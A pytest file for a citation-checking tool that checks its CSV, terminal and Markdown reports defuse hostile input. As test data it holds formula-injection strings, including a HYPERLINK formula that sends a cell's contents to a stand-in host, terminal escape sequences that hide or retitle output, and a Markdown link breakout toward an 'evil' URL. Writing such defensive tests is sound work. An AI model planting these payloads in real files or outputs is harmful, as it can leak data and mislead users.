"""Output encoding per format: what an entry, a service title or a file name holds is shown, never
run. CSV cells cannot start a formula (OWASP), the terminal table holds no control character
(ESC sequences could retitle the window, erase lines, hide text), a Markdown link cannot be
broken out of, and HTML keeps its own escaping (test_bad_input / the report tests)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from refcheck.model import Finding, Reference, Report, Verdict
from refcheck.report import csvfmt, markdown, table

ESC_TITLE = "\x1b]0;pwned\x07\x1b[2J\x1b[1A\rHidden\x08\x9b31m\u202eevil"


def _report(raw="1. Smith J. A title. J Nutr. 2019;1:1-2.", title=None, doi=None, source="refs.txt",
            found=None) -> Report:
    ref = Reference(n=1, raw=raw, title=title, doi=doi, authors=("Smith J",), year=2019)
    f = Finding(code="title-mismatch", severity="warning", message="the title differs", field="title",
                cited=title, found=found)
    return Report(source=source, verdicts=(Verdict(reference=ref, findings=(f,)),))


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tcmd", "\r=1"])
def test_csv_cells_never_start_a_formula(evil):
    text = csvfmt.render(_report(raw=evil, title=evil, found=evil, source=evil))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for col, cell in row.items():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
    assert rows[0]["raw"] == "'" + evil  # shown as text, nothing lost


def test_csv_plain_cells_are_unchanged():
    rows = list(csv.DictReader(io.StringIO(csvfmt.render(_report(title="Trends in 2019 — Pérez")))))
    assert rows[0]["cited"] == "Trends in 2019 — Pérez"


@pytest.mark.parametrize("color", [False, True])
def test_table_holds_no_control_character_from_the_data(color):
    text = table.render(_report(raw="1. " + ESC_TITLE, title=ESC_TITLE, found=ESC_TITLE, source="a\x1bb.txt"),
                        color=color)
    own = {"\x1b[0m", "\x1b[31m", "\x1b[33m", "\x1b[2m", "\x1b[32m", "\x1b[1m"}  # the table's own colours
    rest = re.sub("|".join(map(re.escape, own)), "", text)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", rest), repr(rest)
    assert "pwned" in rest and "Hidden" in rest  # shown, not obeyed


def test_markdown_link_cannot_be_broken_out_of():
    doi = "10.1000/x)[click me](http://evil.example/steal"
    text = markdown.render(_report(doi=doi))
    links = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)  # link targets: after an unescaped ']'
    assert links and all(l.startswith("https://doi.org/10.1000/x%29%5Bclick") for l in links), links
    assert "\\[click me\\](http://evil" in text  # in the label, as escaped text
